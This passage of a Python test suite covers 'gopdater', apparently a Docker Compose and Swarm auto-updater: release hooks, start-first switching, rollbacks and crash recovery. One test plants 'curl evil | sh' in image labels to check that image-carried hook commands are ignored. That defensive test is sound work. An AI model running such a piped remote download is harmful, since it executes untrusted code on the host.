        """A full re-read while blog's update is held reads shop and wiki but not blog, and keeps blog."""
        rig = self.host()
        self.push(rig)
        gate = rig.fake.hold(project_call("blog", "docker", "compose", "pull"))
        with self.assertLogs("gopdater", "INFO"):
            held = self.in_thread(rig, gate)
            rig.fake.calls.clear()
            rig.fake.call_kwargs.clear()
            rig.queue.refresh(frozenset({("compose", "blog")}), full=True)
            read = sorted(kw["env"]["COMPOSE_PROJECT_NAME"] for call, kw in zip(rig.fake.calls, rig.fake.call_kwargs)
                          if "config" in call)
            self.assertEqual(read, ["shop", "wiki"])
            self.assertEqual(project_names(rig.project), ["blog", "shop", "wiki"])
            gate.let_go()
            held.join(10)

    def test_a_project_with_no_container_mid_update_stays_known(self):
        """A re-read while blog's update has removed its old container and not yet started the new one keeps
        blog, so the update's own re-read afterwards finds it."""
        rig = self.host()
        self.push(rig)
        gate = rig.fake.hold(project_call("blog", "docker", "rm"))
        with self.assertLogs("gopdater", "INFO"):
            held = self.in_thread(rig, gate)
            rig.queue.refresh(frozenset({("compose", "blog")}), full=False)
            self.assertEqual(project_names(rig.project), ["blog", "shop", "wiki"])
            gate.let_go()
            held.join(10)

    def test_discovery_reads_projects_side_by_side(self):
        """At start, blog's and shop's compose config are read at once (each held until both are)."""
        rig = self.host()
        gates = [rig.fake.hold(project_call(p, "docker", "compose", "config")) for p in ("blog", "shop")]
        found = []
        thread = threading.Thread(target=lambda: found.append(gopdater.discover(
            rig.config, rig.fake, read_file=lambda path: "", cwd="/srv/demo")), daemon=True)
        thread.start()
        self.addCleanup(thread.join, 10)
        for gate in gates:
            self.addCleanup(gate.let_go)
        for gate in gates:
            self.assertTrue(gate.started.wait(10), "both projects are read at once")
        for gate in gates:
            gate.let_go()
        thread.join(10)
        self.assertEqual(project_names(found[0]), ["blog", "shop", "wiki"])


ENV_ARGS = ["-e", f"GOPDATER_OLD_IMAGE={OLD_ID}", "-e", f"GOPDATER_NEW_IMAGE={NEW_ID}", "-e", "GOPDATER_TAG=latest"]
RELEASE = {"gopdater.pre-update": "pg_dump -f /backup/db.sql", "gopdater.migrate": "sh -c 'migrate up && echo done'",
           "gopdater.post-update": "wget -q -O /dev/null http://127.0.0.1/"}


class ReleaseStepsTest(unittest.TestCase):
    """gopdater.pre-update, .migrate and .post-update around an update."""

    def rig(self, labels=RELEASE, fake=None, **env):
        rig = Rig(self, fake or FakeDocker(), **env)
        rig.fake.file_labels[("demo", "site")] = dict(labels)
        rig.project.refresh()
        rig.fake.calls.clear()
        return rig

    def release_calls(self, rig):
        return [c for c in rig.fake.calls if c[1:2] == ["exec"] or "run" in c[1:3] and "--rm" in c]

    def test_labels_are_read_as_a_shell_would_split_them_and_bad_ones_are_problems(self):
        """Each label is split by shlex; a label that cannot be split, or a bad hook-timeout, is a problem."""
        steps = gopdater.release_steps({**RELEASE, "gopdater.hook-timeout": "30"})
        self.assertEqual(dict(steps.commands), {
            gopdater.Stage.PRE_UPDATE: ("pg_dump", "-f", "/backup/db.sql"),
            gopdater.Stage.MIGRATE: ("sh", "-c", "migrate up && echo done"),
            gopdater.Stage.POST_UPDATE: ("wget", "-q", "-O", "/dev/null", "http://127.0.0.1/")})
        self.assertEqual((steps.timeout, steps.problem), (30.0, None))
        self.assertEqual(gopdater.release_steps({"gopdater.migrate": "  "}), gopdater.ReleaseSteps())
        for labels, problem in [({"gopdater.migrate": "sh -c 'unclosed"}, "gopdater.migrate cannot be split"),
                                ({"gopdater.hook-timeout": "0"}, "gopdater.hook-timeout must be"),
                                ({"gopdater.hook-timeout": "-5"}, "gopdater.hook-timeout must be"),
                                ({"gopdater.hook-timeout": "inf"}, "gopdater.hook-timeout must be"),
                                ({"gopdater.hook-timeout": "nan"}, "gopdater.hook-timeout must be"),
                                ({"gopdater.hook-timeout": "soon"}, "gopdater.hook-timeout must be")]:
            with self.subTest(labels=labels):
                self.assertIn(problem, gopdater.release_steps(labels).problem or "")

    def test_pre_update_and_migrate_run_before_the_switch_and_post_update_after_it(self):
        """The dump in the old container, the migration in a one-off container of the new image, then stop, rm,
        up, wait, the smoke test in the new container; each with the images and tag, each timed and its
        output kept."""
        rig = self.rig()
        rig.fake.printed = "line 1\nline 2\n"
        old = next(iter(rig.fake.containers))
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy()
        new = next(iter(rig.fake.containers))
        self.assertEqual(deployment.state, "updated")
        self.assertEqual(deployment_calls(rig.fake.calls)[4:], [
            ["docker", "image", "inspect", "--format", "{{.Id}}", "acme/site:latest"],
            ["docker", "exec", *ENV_ARGS, "demo-site-1", "pg_dump", "-f", "/backup/db.sql"],
            ["docker", "compose", "run", "--rm", "--no-deps", "-T", "--name", f"demo-site-migrate-{deployment.id}",
             *ENV_ARGS, "site", "sh", "-c", "migrate up && echo done"],
            ["docker", "stop", "-t", "10", "demo-site-1"], ["docker", "rm", "demo-site-1"],
            ["docker", "compose", "up", "-d", "--no-deps", "site"], ["docker", "compose", "ps", "-a", "-q", "site"],
            ["docker", "inspect", "--type", "container", new],
            ["docker", "exec", *ENV_ARGS, new, "wget", "-q", "-O", "/dev/null", "http://127.0.0.1/"]])
        self.assertNotEqual(old, new)
        self.assertEqual([s.step for s in deployment.steps], [
            "inspect", "pull", "compare", "pre-update", "migrate", "stop", "remove", "up", "downtime", "wait",
            "post-update", "done"])
        self.assertEqual(deployment.logs, [f"{step}: line {n}" for step in ("pre-update", "migrate", "post-update")
                                           for n in (1, 2)])

    def test_a_failing_pre_update_or_migrate_changes_nothing_and_fails(self):
        """A non-zero exit or a timeout of pre-update or migrate: the old container keeps serving untouched, the
        image name points at it again, the deployment is failed with the command's last lines; a timed-out
        migration's one-off container is removed."""
        cases = [(("docker", "exec"), 2, "pre-update failed"), (("docker", "compose", "run"), 1, "migrate failed"),
                 (("docker", "compose", "run"), None, "migrate failed")]
        for prefix, code, reason in cases:
            with self.subTest(prefix=prefix, code=code):
                rig = self.rig()
                rig.fake.fail[prefix] = (code, "relation users already exists")
                with self.assertLogs("gopdater", "WARNING"):
                    deployment = rig.deploy()
                self.assertEqual(deployment.state, "failed")
                self.assertIn(reason, deployment.error)
                self.assertIn("nothing was switched", deployment.error)
                changes = [c for c in rig.fake.mutating_calls() if c[2:3] != ["pull"]]
                removed = [["docker", "rm", "-f", f"demo-site-migrate-{deployment.id}"]] if code is None else []
                self.assertEqual(changes, removed + [["docker", "tag", OLD_ID, "acme/site:latest"]])
                (container,) = rig.fake.containers.values()
                self.assertEqual((container["image_id"], container["stopped"]), (OLD_ID, False))

    def test_a_refused_push_is_tried_again_by_the_next_hook(self):
        """After a failed migration is fixed, the next hook for that image runs the update."""
        rig = self.rig()
        rig.fake.fail[("docker", "compose", "run")] = (1, "blocked")
        with self.assertLogs("gopdater", "WARNING"):
            self.assertEqual(rig.deploy().state, "failed")
        del rig.fake.fail[("docker", "compose", "run")]
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "updated")

    def test_a_failing_post_update_rolls_back_and_a_replay_skips_the_image(self):
        """post-update failing in the new container rolls the update back; the same push again is skipped."""
        rig = self.rig()
        rig.fake.fail_if.append((("docker", "exec"), lambda fake: any(
            c["image_id"] == NEW_ID for c in fake.containers.values()), 1, "smoke test failed"))
        with self.assertLogs("gopdater", "WARNING"):
            deployment = rig.deploy()
        self.assertEqual(deployment.state, "rolled-back")
        self.assertIn("post-update failed", deployment.error)
        self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [OLD_ID])
        exec_count = len([c for c in rig.fake.calls if c[1:2] == ["exec"]])
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "skipped")
        self.assertEqual(len([c for c in rig.fake.calls if c[1:2] == ["exec"]]), exec_count, "nothing ran again")

    def test_a_crash_in_a_release_step_is_recovered_without_running_it_again(self):
        """Cut off during pre-update or migrate: recovered, nothing run, the old container serving. Cut off
        during post-update: judged like a crash in the health wait, the command not run again."""
        for prefix, reason, image in [(("docker", "exec"), "cut off during pre-update; push again", OLD_ID),
                                      (("docker", "compose", "run"), "cut off during migrate; push again", OLD_ID)]:
            with self.subTest(cut_after=prefix):
                rig = self.rig()
                rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
                cut(self, rig, prefix)
                queue = restart(self, rig)
                view = queue.views()[0]
                self.assertEqual((view["state"], view["error"]), ("recovered", None))
                self.assertEqual(rig.fake.mutating_calls(), [])
                self.assertEqual(self.release_calls(rig), [])
                self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [image])
        rig = self.rig()
        rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
        cut(self, rig, ("docker", "exec"), nth=2)
        queue = restart(self, rig)
        self.assertEqual(queue.views()[0]["state"], "recovered")
        self.assertEqual(self.release_calls(rig), [], "post-update is not run twice")
        self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [NEW_ID])

    def test_dry_run_logs_the_commands_it_would_run(self):
        """DRY_RUN logs each release step's command line and runs none."""
        rig = self.rig(DRY_RUN=1)
        with self.assertLogs("gopdater", "INFO") as logs:
            rig.deploy()
        self.assertEqual(self.release_calls(rig), [])
        said = "\n".join(logs.output)
        self.assertIn("dry-run would run: docker exec -e GOPDATER_OLD_IMAGE=", said)
        self.assertIn("site sh -c 'migrate up && echo done'", said)

    def test_check_lists_the_release_steps_of_each_service(self):
        """--check names each service's release steps, and a bad label as a FAIL line."""
        fake = FakeDocker()
        fake.file_labels[("demo", "site")] = {**RELEASE, "gopdater.hook-timeout": "60"}
        code, out = check(self, fake)
        self.assertIn("service demo/site: release steps: pre-update 'pg_dump -f /backup/db.sql', migrate "
                      "\"sh -c 'migrate up && echo done'\", post-update", out)
        self.assertIn("(each within 60s)", out)
        fake.file_labels[("demo", "site")] = {"gopdater.migrate": "sh -c 'oops"}
        code, out = check(self, fake)
        self.assertEqual(code, 1)
        self.assertIn("FAIL service demo/site: gopdater.migrate cannot be split", out)

    def test_compose_v1_reads_the_containers_labels_and_ignores_what_the_image_carries(self):
        """With Compose v1 the labels come from the containers: the operator's run, one the image itself carries
        (and the operator did not set) runs nothing and --check names it."""
        fake = FakeDocker(compose=("docker-compose",))
        fake.labels[("demo", "site")] = {"gopdater.migrate": "migrate up"}
        fake.image_labels[OLD_ID] = {"gopdater.migrate": "curl evil | sh"}  # the operator's label wins
        rig = Rig(self, fake, COMPOSE_COMMAND="docker-compose")
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "updated")
        self.assertEqual([c[:3] + c[-2:] for c in self.release_calls(rig)],
                         [["docker-compose", "run", "--rm", "migrate", "up"]])
        fake.labels.clear()
        fake.registry["acme/site:latest"] = BROKEN_ID
        fake.behaviour[BROKEN_ID] = "healthy"
        fake.image_labels[NEW_ID] = fake.image_labels[BROKEN_ID] = {"gopdater.pre-update": "curl evil | sh"}
        rig.project.refresh()
        fake.calls.clear()
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "updated")
        self.assertEqual(self.release_calls(rig), [])
        code, out = check(self, fake, COMPOSE_COMMAND="docker-compose")
        self.assertIn("ok   warning: service demo/site: gopdater.pre-update carried by its image, ignored", out)

    def test_start_first_runs_post_update_once_the_new_one_is_connected_and_keeps_the_old_on_failure(self):
        """Start-first: post-update runs after connect, before the old one stops; if it fails the new one is
        removed and the old one keeps serving."""
        fake = FakeDocker()
        fake.labels[("demo", "site")] = {"gopdater.order": "start-first"}
        rig = self.rig({"gopdater.post-update": "smoke"}, fake)
        fake.fail[("docker", "exec")] = (1, "smoke failed")
        with self.assertLogs("gopdater", "WARNING"):
            deployment = rig.deploy()
        self.assertEqual(deployment.state, "rolled-back")
        words = [c[1] if c[1] != "compose" else c[2] for c in rig.fake.calls if c[1:2] in (["network"], ["exec"], ["rm"], ["stop"])]
        self.assertEqual(words[-4:], ["network", "network", "exec", "rm"])
        self.assertEqual([(c["name"], c["image_id"], c["stopped"]) for c in rig.fake.containers.values()],
                         [("demo-site-1", OLD_ID, False)])


class SwarmReleaseLabelsTest(unittest.TestCase):
    def test_release_labels_on_a_swarm_service_are_reported_as_not_supported(self):
        """A Swarm service with gopdater.migrate gets a FAIL line in --check saying it is not supported yet."""
        swarm = gopdater.SwarmServices(make_config(), lambda *a, **k: "", "")
        swarm.services = {"web": gopdater.SwarmService.from_inspect({"Spec": {"Name": "web", "Labels": {
            "gopdater.migrate": "migrate up"}, "TaskTemplate": {"ContainerSpec": {"Image": "acme/web:latest"}}}})}
        (ok, line), = [f for f in swarm.describe() if "migrate" in f[1]]
        self.assertFalse(ok)
        self.assertIn("Swarm service web: gopdater.migrate is not supported on Swarm services yet", line)


class StartFirstTest(unittest.TestCase):
    def rig(self, **env):
        fake = FakeDocker()
        fake.labels[("demo", "site")] = {"gopdater.order": "start-first"}
        return Rig(self, fake, **env)

    def test_the_new_container_starts_beside_the_old_off_the_network_then_takes_over(self):
        """Create one more, isolate it, start, wait for health, connect with its aliases, wait, retire the old."""
        rig = self.rig()
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy()
        self.assertEqual(deployment.state, "updated")
        self.assertEqual(rig.fake.mutating_calls(), [
            ["docker", "compose", "pull", "site"],
            ["docker", "compose", "up", "--no-start", "--no-deps", "--no-recreate", "--scale", "site=2", "site"],
            ["docker", "network", "disconnect", "demo_default", "demo-site-2"],
            ["docker", "start", "demo-site-2"],
            ["docker", "network", "connect", "--alias", "site", "demo_default", "demo-site-2"],
            ["docker", "stop", "-t", "10", "demo-site-1"],
            ["docker", "rm", "demo-site-1"]])
        self.assertEqual(rig.fake.events, [("start", "demo-site-2", []), ("connect", "demo-site-2", ["demo_default"])])
        self.assertIn(1.5, rig.clock.sleeps, "SWITCH_DELAY for the proxy")
        (name, running), = [(c["name"], c["image_id"]) for c in rig.fake.containers.values()]
        self.assertEqual((name, running), ("demo-site-2", NEW_ID))
        self.assertEqual([s.step for s in deployment.steps], [
            "inspect", "pull", "compare", "create", "isolate", "start", "wait", "connect", "switch", "stop",
            "remove", "done"])

    def test_the_compose_files_own_update_config_order_asks_for_it_too(self):
        """deploy.update_config.order: start-first, as Compose v2 reports it, works like the label."""
        fake = FakeDocker()
        fake.orders[("demo", "site")] = "start-first"
        rig = Rig(self, fake)
        with self.assertLogs("gopdater", "INFO"):
            rig.deploy()
        self.assertIn(["docker", "start", "demo-site-2"], rig.fake.calls)

    def test_a_broken_image_costs_nothing_the_old_container_never_stops(self):
        """A new container that fails its wait is removed; the old one never stopped; ends rolled-back."""
        rig = self.rig()
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy()
        self.assertEqual(deployment.state, "rolled-back")
        self.assertNotIn(["docker", "stop", "-t", "10", "demo-site-1"], rig.fake.calls)
        self.assertIn(["docker", "rm", "-f", "demo-site-2"], rig.fake.calls)
        self.assertIn(["docker", "tag", OLD_ID, "acme/site:latest"], rig.fake.calls)
        (running,) = rig.fake.containers.values()
        self.assertEqual((running["name"], running["image_id"], running["stopped"]), ("demo-site-1", OLD_ID, False))

    def test_services_that_cannot_run_twice_fall_back_and_say_why(self):
        """A host port, a fixed container_name or no healthcheck: the usual replace, with the reason logged."""
        cases = [("host_ports", "8080", "demo-site-1 publishes a host port"),
                 ("names", "my-site", "my-site has a fixed container_name"),
                 ("behaviour", "nohc", "demo-site-1 has no healthcheck, which start-first needs")]
        for what, value, reason in cases:
            with self.subTest(reason=reason):
                fake = FakeDocker()
                fake.labels[("demo", "site")] = {"gopdater.order": "start-first"}
                if what == "behaviour":
                    fake.behaviour[OLD_ID] = fake.behaviour[NEW_ID] = "nohc"
                    fake.containers.clear()
                    fake.create("demo", "site")
                else:
                    getattr(fake, what)[("demo", "site")] = value
                    fake.containers.clear()
                    fake.create("demo", "site")
                rig = Rig(self, fake, SETTLE_TIME=1)
                code, out = check(self, fake)
                self.assertIn(f"start-first falls back to stop-first: {reason}", out)
                with self.assertLogs("gopdater", "INFO") as logs:
                    self.assertEqual(rig.deploy().state, "updated")
                self.assertTrue(any(f"start-first falls back to stop-first: {reason}" in l for l in logs.output))
                self.assertNotIn("start", [c[1] for c in rig.fake.calls])

    def test_each_of_several_containers_is_switched_in_turn(self):
        """With two containers, each is replaced by a new one, one at a time."""
        rig = self.rig()
        rig.fake.create("demo", "site")
        rig.project.refresh()
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "updated")
        creates = [c[-2] for c in rig.fake.calls if c[2:4] == ["up", "--no-start"]]
        self.assertEqual(creates, ["site=3", "site=3"])
        self.assertEqual(sorted(c["image_id"] for c in rig.fake.containers.values()), [NEW_ID, NEW_ID])

    def test_a_crash_mid_switch_leaves_exactly_one_healthy_container(self):
        """Killed while both run, the new one goes; killed after the old one stopped, the new one stays."""
        for prefix, nth, survivor, image, state in [(("docker", "start"), 1, "demo-site-1", OLD_ID, "rolled-back"),
                                                    (("docker", "network", "connect"), 1, "demo-site-1", OLD_ID,
                                                     "rolled-back"),
                                                    (("docker", "stop"), 1, "demo-site-2", NEW_ID, "recovered"),
                                                    (("docker", "network", "disconnect"), 1, "demo-site-1", OLD_ID,
                                                     "rolled-back")]:
            with self.subTest(cut_after=prefix):
                rig = self.rig()
                CrashRecoveryTest.cut(self, rig, prefix, nth)
                queue = restart(self, rig)
                self.assertEqual(queue.views()[0]["state"], state)
                self.assertEqual([(c["name"], c["image_id"], c["stopped"]) for c in rig.fake.containers.values()],
                                 [(survivor, image, False)])
                self.assertEqual(sorted(rig.fake.containers.values().__iter__().__next__()["networks"]),
                                 ["demo_default"])


# ---------------------------------------------------------------------------------------------
# Swarm services
# ---------------------------------------------------------------------------------------------

SWARM_REF = "127.0.0.1:5000/acme/site:latest"
DIGEST_1, DIGEST_2 = "sha256:" + "a" * 64, "sha256:" + "b" * 64


class FakeSwarm(FakeDocker):
    """FakeDocker whose engine is also a swarm manager running the service blog_site (stack blog).

    script: the UpdateStatus states an update goes through, one per `docker service inspect`; tasks:
    whether its tasks run once an update completed ("running" or "failed").
    """

    def __init__(self, script=("updating", "completed"), tasks="running", **kwargs):
        super().__init__(**kwargs)
        self.swarm_info = {"LocalNodeState": "active", "ControlAvailable": True}
        self.resolves = {SWARM_REF: DIGEST_2}  # the digest the manager finds for the tag
        self.script, self.rollback_script, self.task_state = list(script), ["rollback_started",
                                                                           "rollback_completed"], tasks
        self.service = {"ID": "svc1", "Spec": {
            "Name": "blog_site", "Labels": {"com.docker.stack.namespace": "blog"},
            "TaskTemplate": {"ContainerSpec": {"Image": f"{SWARM_REF}@{DIGEST_1}"}},
            "Mode": {"Replicated": {"Replicas": 2}}, "UpdateConfig": {"Parallelism": 1, "Order": "start-first"}}}
        self.pending, self.starts = [], 0
        self.out_of_sequence = 0  # how many `service update` calls Swarm answers "update out of sequence"

    def image(self):
        return self.service["Spec"]["TaskTemplate"]["ContainerSpec"]["Image"]

    def swarm(self, args):
        if args == ["service", "ls", "-q"]:
            return "svc1\n"
        if args[:2] == ["service", "inspect"]:
            if self.pending:
                state = self.pending.pop(0) if len(self.pending) > 1 else self.pending[0]
                self.service["UpdateStatus"] = {**self.service["UpdateStatus"], "State": state,
                                                "Message": {"paused": "update paused due to failure of task t1",
                                                            "rollback_paused": "rollback paused"}.get(state, state)}
                if state == "rollback_completed" and "PreviousSpec" in self.service:  # Swarm rolled back itself
                    self.service["Spec"] = self.service.pop("PreviousSpec")
            return json.dumps([copy.deepcopy(self.service)])
        if args[:3] == ["service", "update", "--detach"]:
            if self.out_of_sequence:  # as Swarm, when it wrote the service between the CLI's read and write
                self.out_of_sequence -= 1
                raise CommandError(["docker", *args], 1, "Error response from daemon: rpc error: code = Unknown "
                                                         "desc = update out of sequence")
            image = args[4] if "@" in args[4] else f"{args[4]}@{self.resolves[args[4]]}"
            if image != self.image():
                self.service["PreviousSpec"] = copy.deepcopy(self.service["Spec"])
                self.service["Spec"]["TaskTemplate"]["ContainerSpec"]["Image"] = image
                self.begin(self.script)
            return "blog_site\n"
        if args[:3] == ["service", "rollback", "--detach"]:
            self.begin(self.rollback_script)
            return "blog_site\n"
        if args[:2] == ["service", "ps"]:
            return "t1\nt2\n"
        if args[:3] == ["inspect", "--type", "task"]:
            state = self.task_state if self.service["UpdateStatus"]["State"] == "completed" else "running"
            return json.dumps([{"ID": t, "Status": {"State": state},
                                "Spec": {"ContainerSpec": {"Image": self.image()}}} for t in args[3:]])
        return super().swarm(args)

    def begin(self, states):
        self.starts += 1
        self.service["UpdateStatus"] = {"State": states[0], "StartedAt": f"t{self.starts}", "Message": ""}
        self.pending = list(states)


class SwarmMoveTest(unittest.TestCase):
    def test_the_next_move_of_a_followed_swarm_update_is_a_table(self):
        """swarm_move(): Swarm's state, whether every task runs the image, whether gopdater asked for a rollback,
        and how many HEALTH_TIMEOUT limits have passed decide the next move. Pure."""
        M = gopdater.SwarmMove
        cases = [("completed", True, False, 0.5, M.UPDATED), ("completed", False, False, 0.5, M.WAIT),
                 ("updating", False, False, 0.9, M.WAIT), ("updating", False, False, 1.1, M.ROLL_BACK),
                 ("paused", False, False, 0.1, M.ROLL_BACK), ("paused", False, True, 0.1, M.WAIT),
                 ("rollback_started", False, True, 1.5, M.WAIT), ("rollback_started", False, True, 2.1, M.STUCK),
                 ("rollback_paused", False, True, 0.1, M.STUCK), ("rollback_completed", False, True, 0.1,
                                                                  M.ROLLED_BACK),
                 ("pending", False, False, 0.5, M.WAIT)]
        for state, tasks_run, rolling_back, limits, move in cases:
            with self.subTest(state=state, tasks_run=tasks_run, rolling_back=rolling_back, limits=limits):
                self.assertIs(gopdater.swarm_move(state, tasks_run, rolling_back, limits), move)


class SwarmTest(unittest.TestCase):
    def rig(self, fake=None, **env):
        env.setdefault("OWNER", "acme,127.0.0.1:5000/acme")
        return Rig(self, fake or FakeSwarm(), **env)

    def push(self, rig, digest=None):
        """A push of 127.0.0.1:5000/acme/site:latest (with a digest, as GHCR, Harbor and registries send)."""
        key = gopdater.parse_reference(SWARM_REF)
        submitted = rig.queue.submit(gopdater.PushEvent("registry", key, digest))
        rig.start_worker()
        self.assertTrue(rig.queue.wait_idle(10))
        return {d.ref.kind: d for d, _ in submitted}

    def test_a_manager_finds_its_swarm_services_beside_the_compose_project(self):
        """SWARM=auto on a manager: one push maps to the Swarm service (with its stack) and Compose services."""
        fake = FakeSwarm(projects={"demo": {"site": SWARM_REF}})
        rig = self.rig(fake)
        refs = rig.project.services_for(gopdater.parse_reference(SWARM_REF))
        self.assertEqual(refs, [gopdater.ServiceRef("compose", "demo", "site"),
                                gopdater.ServiceRef("swarm", "blog", "blog_site")])
        code, out = check(self, fake, OWNER="127.0.0.1:5000/acme")
        self.assertIn("Swarm service blog/blog_site: updates on a push of 127.0.0.1:5000/acme/site:latest", out)

    def test_an_update_runs_service_update_and_follows_swarm_to_completed(self):
        """`docker service update --detach --image <ref> --with-registry-auth`, then UpdateStatus: updated."""
        rig = self.rig()
        with self.assertLogs("gopdater", "INFO"):
            deployment = self.push(rig)["swarm"]
        self.assertEqual(deployment.state, "updated")
        updates = [c for c in rig.fake.calls if c[1:3] == ["service", "update"]]
        self.assertEqual(updates, [["docker", "service", "update", "--detach", "--image", SWARM_REF,
                                    "--with-registry-auth", "blog_site"]])
        view = rig.queue.views()[0]
        self.assertEqual((view["kind"], view["project"], view["service"]), ("swarm", "blog", "blog_site"))

    def test_an_update_out_of_sequence_is_asked_again_at_most_three_times(self):
        """Swarm's "update out of sequence" (it wrote the service meanwhile): the same `service update` again;
        updated after one or two such answers, failed with Swarm's words after three."""
        update = ["docker", "service", "update", "--detach", "--image", SWARM_REF, "--with-registry-auth", "blog_site"]
        for answers, state, calls in ((1, "updated", 2), (2, "updated", 3), (3, "failed", 3)):
            with self.subTest(answers=answers):
                rig = self.rig()
                rig.fake.out_of_sequence = answers
                with self.assertLogs("gopdater", "INFO"):
                    deployment = self.push(rig)["swarm"]
                self.assertEqual(deployment.state, state)
                self.assertEqual([c for c in rig.fake.calls if c[1:3] == ["service", "update"]], [update] * calls)
                error = rig.queue.views()[0].get("error") or ""
                self.assertEqual("update out of sequence" in error, state == "failed", error)

    def test_the_pushed_digest_never_reaches_the_command_so_a_replay_cannot_move_back(self):
        """The update names the tag, which Swarm resolves when it runs; a digest the service runs updates
        nothing; a replay naming an older digest leaves the service on the newer one."""
        rig = self.rig()
        with self.assertLogs("gopdater", "INFO"):
            self.push(rig, DIGEST_2)
        self.assertIn(["docker", "service", "update", "--detach", "--image", SWARM_REF, "--with-registry-auth",
                       "blog_site"], rig.fake.calls)
        self.assertFalse([c for c in rig.fake.calls if any("@" in a for a in c)], "no digest in any command")
        rig.fake.calls.clear()
        self.assertEqual(self.push(rig, DIGEST_2)["swarm"].state, "up-to-date")
        self.assertFalse([c for c in rig.fake.calls if c[1:3] == ["service", "update"]])
        self.assertEqual(self.push(rig, DIGEST_1)["swarm"].state, "up-to-date", "a replay of the older push")
        self.assertEqual(rig.fake.image(), f"{SWARM_REF}@{DIGEST_2}")

    def test_a_rolled_back_digest_is_not_tried_again_by_a_replay_but_a_new_push_is(self):
        """Once DIGEST_2's tasks failed and Swarm rolled back, a re-delivery of that push is skipped; a push
        of a new digest is tried."""
        rig = self.rig(FakeSwarm(script=("updating", "paused")))
        self.assertEqual(self.push(rig, DIGEST_2)["swarm"].state, "rolled-back")
        rig.fake.calls.clear()
        replay = self.push(rig, DIGEST_2)["swarm"]
        self.assertEqual(replay.state, "skipped")
        self.assertIn("failed here before", replay.error)
        self.assertFalse([c for c in rig.fake.calls if c[1:3] == ["service", "update"]])
        rig.fake.script, digest_3 = ["updating", "completed"], "sha256:" + "c" * 64
        rig.fake.resolves[SWARM_REF] = digest_3
        self.assertEqual(self.push(rig, digest_3)["swarm"].state, "updated")

    def test_a_replay_without_digest_restarts_nothing(self):
        """A tag that still resolves to the running digest leaves the spec alone: up-to-date, no rollback."""
        rig = self.rig()
        rig.fake.resolves[SWARM_REF] = DIGEST_1
        deployment = self.push(rig)["swarm"]
        self.assertEqual(deployment.state, "up-to-date")
        self.assertFalse([c for c in rig.fake.calls if c[1:3] == ["service", "rollback"]])

    def test_each_way_an_update_can_end(self):
        """rollback_completed, paused (then rolled back by gopdater), completed but not running, rollback_paused."""
        cases = [(("updating", "rollback_started", "rollback_completed"), "running", "rolled-back", False),
                 (("updating", "paused"), "running", "rolled-back", True),
                 (("updating", "completed"), "failed", "rolled-back", True),
                 (("updating", "paused"), "running", "failed", True)]
        for script, tasks, state, rolls_back in cases:
            with self.subTest(script=script, tasks=tasks, state=state):
                fake = FakeSwarm(script, tasks)
                if state == "failed":
                    fake.rollback_script = ["rollback_started", "rollback_paused"]
                rig = self.rig(fake, HEALTH_TIMEOUT=5)
                with self.assertLogs("gopdater", "INFO"):
                    deployment = self.push(rig)["swarm"]
                self.assertEqual(deployment.state, state, deployment.error)
                rollbacks = [c for c in rig.fake.calls if c[1:3] == ["service", "rollback"]]
                self.assertEqual(rollbacks, [["docker", "service", "rollback", "--detach", "blog_site"]] * rolls_back)
                if state == "rolled-back":
                    self.assertTrue(rig.fake.image().endswith(DIGEST_1), "the old image serves")

    def test_swarm_on_needs_a_manager_and_a_worker_says_so(self):
        """SWARM=on on a non-manager stops start-up; SWARM=auto on a worker logs why nothing of Swarm updates."""
        worker = FakeDocker()
        worker.swarm_info = {"LocalNodeState": "active", "ControlAvailable": False}
        with self.assertRaises(gopdater.ConfigError) as caught:
            Rig(self, worker, SWARM="on")
        self.assertTrue(str(caught.exception).startswith("SWARM=on but this engine is a swarm worker"))
        with self.assertLogs("gopdater", "WARNING") as logs:
            Rig(self, worker)
        self.assertIn("swarm worker", logs.output[0])
        with self.assertLogs("gopdater", "WARNING"):
            code, out = check(self, worker)
        self.assertIn("ok   swarm: this engine is a worker; Swarm services are updated only by a gopdater on a "
                      "manager", out)
        self.assertIsInstance(Rig(self, FakeSwarm(), SWARM="off").project, gopdater.ComposeProject)

    def test_services_names_a_swarm_service_as_stack_slash_service_like_a_compose_one(self):
        """SERVICES=STACK/SERVICE maps a Swarm service as PROJECT/SERVICE maps a Compose one; a wrong stack
        matches nothing and stops start-up."""
        rig = self.rig(SERVICES="127.0.0.1:5000/acme/site=blog/blog_site")
        key = gopdater.parse_reference(SWARM_REF)
        self.assertEqual(rig.project.services_for(key), [gopdater.ServiceRef("swarm", "blog", "blog_site")])
        with self.assertRaisesRegex(gopdater.ConfigError, "SERVICES names shop/blog_site"):
            self.rig(SERVICES="127.0.0.1:5000/acme/site=shop/blog_site")

    def test_a_swarm_only_host_runs_without_compose(self):
        """With no Compose installed, a swarm manager still updates its Swarm services (a warning says why
        no Compose project is)."""
        fake = FakeSwarm()
        fake.fail[("docker", "compose")] = (127, "docker: 'compose' is not a docker command")
        fake.fail[("docker-compose",)] = (127, "not found")
        with self.assertLogs("gopdater", "WARNING") as logs:
            rig = self.rig(fake)
        self.assertIsInstance(rig.project, gopdater.SwarmServices)
        self.assertIn("no Compose found", "\n".join(logs.output))
        self.assertEqual(self.push(rig)["swarm"].state, "updated")

    def test_a_crash_after_the_update_call_is_followed_to_the_end_at_the_next_start(self):
        """Killed right after `service update`, the next start follows Swarm's state and ends recovered."""
        rig = self.rig()
        submitted = rig.queue.submit(gopdater.PushEvent("registry", gopdater.parse_reference(SWARM_REF)))
        self.assertEqual([x.deployment.ref.kind for x in submitted], ["swarm"])
        cut(self, rig, ("docker", "service", "update"))
        queue = restart(self, rig)
        self.assertEqual(queue.views()[0]["state"], "recovered")


# ---------------------------------------------------------------------------------------------
# Version channels (gopdater.track)
# ---------------------------------------------------------------------------------------------

SITE_RAW = "acme/site:${SITE_TAG}"
